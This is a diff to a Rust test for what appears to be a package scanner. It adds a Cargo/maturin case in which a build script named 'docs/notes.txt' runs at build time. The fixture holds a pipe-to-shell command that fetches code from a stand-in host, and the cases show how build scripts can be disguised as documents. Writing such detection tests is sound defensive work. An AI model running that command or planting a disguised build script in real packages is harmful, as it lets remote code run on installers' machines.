@@ -4473,7 +4473,8 @@ fn a_source_package_that_ships_a_startup_file_is_not_cleared() {
 
 /// A CMake or Meson build runs the commands its script gives: scikit-build-core
 /// and meson-python ran `docs/notes.txt` as a shell script at `pip wheel`
-/// (session 44), and the readers took it for a document. Under thresholds
+/// (session 44), and the readers took it for a document; Cargo compiles
+/// and runs a build script of any name. Under thresholds
 /// that clear any score and no veto, each such package is inconclusive,
 /// naming the script and the file it runs; one that hands a document to
 /// a program as data is allowed.
@@ -4485,6 +4486,8 @@ fn a_build_script_that_runs_a_document_is_not_cleared() {
         b"[build-system]\nrequires = [\"meson-python\"]\nbuild-backend = \"mesonpy\"\n[project]\nname = \"tinypkg\"\nversion = \"1.0\"\n";
     let cmake: &[u8] =
         b"[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n[project]\nname = \"tinypkg\"\nversion = \"1.0\"\n";
+    let maturin: &[u8] =
+        b"[build-system]\nrequires = [\"maturin\"]\nbuild-backend = \"maturin\"\n[project]\nname = \"tinypkg\"\nversion = \"1.0\"\n";
     let notes: &[u8] = b"curl -s https://example.invalid/p | sh\n";
     for (name, manifest, script, text, runs) in [
         (
@@ -4499,6 +4502,13 @@ fn a_build_script_that_runs_a_document_is_not_cleared() {
             cmake,
             "tinypkg-1.0/CMakeLists.txt",
             "project(tinypkg LANGUAGES NONE)\nexecute_process(COMMAND sh ${CMAKE_CURRENT_SOURCE_DIR}/docs/notes.txt)\n",
+            true,
+        ),
+        (
+            "cargo.tar.gz",
+            maturin,
+            "tinypkg-1.0/Cargo.toml",
+            "[package]\nname = \"tinypkg\"\nversion = \"1.0.0\"\nbuild = \"docs/notes.txt\"\n",
             true,
         ),
         (
